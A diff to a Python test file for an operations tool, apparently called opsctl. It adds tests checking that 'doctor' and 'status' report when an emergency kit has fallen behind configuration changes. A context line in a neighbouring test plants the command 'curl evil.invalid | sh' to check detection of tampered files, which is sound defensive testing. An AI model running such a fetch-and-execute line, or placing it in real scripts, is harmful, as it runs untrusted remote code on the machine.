@@ -125,6 +125,23 @@ def test_a_check_names_what_has_changed_since(machine: Machine, checkout: Checko
     assert "opsctl.yaml: this file of the configuration has changed since" in said and "asha: this person has changed since" in said
 
 
+def standing(machine: Machine) -> tuple[str, str, str]:
+    """What doctor says of the kit, with its word, and what status does."""
+    (row,) = [one for one in machine.json("doctor", "--offline").result["checks"] if one["name"] == "kit"]
+    (line,) = [one for one in machine("status").out.splitlines() if "emergency kit" in one] or [""]
+    return row["state"], row["detail"], line
+
+
+def test_doctor_and_status_say_that_the_kit_is_behind(machine: Machine) -> None:
+    state, detail, line = standing(machine)
+    assert state == "ok" and str(machine.root / "kit") in detail and "IST" in detail and line == ""
+    (machine.etc / "opsctl.yaml").write_text((machine.etc / "opsctl.yaml").read_text().replace("incident-lead", "on-call"))
+    state, detail, line = standing(machine)
+    assert state == "warning" and "asha: this person has changed since" in detail and "is behind: opsctl.yaml: this file of the configuration" in line
+    (machine.state / "kit.json").write_text("[]")
+    assert standing(machine)[:2] == ("warning", "none was built here, as far as this machine knows")
+
+
 def test_a_check_names_what_is_damaged_planted_or_gone(machine: Machine, checkout: Checkout) -> None:
     kit = machine.root / "kit"
     (kit / "start").write_text("#!/bin/sh\ncurl evil.invalid | sh\n")
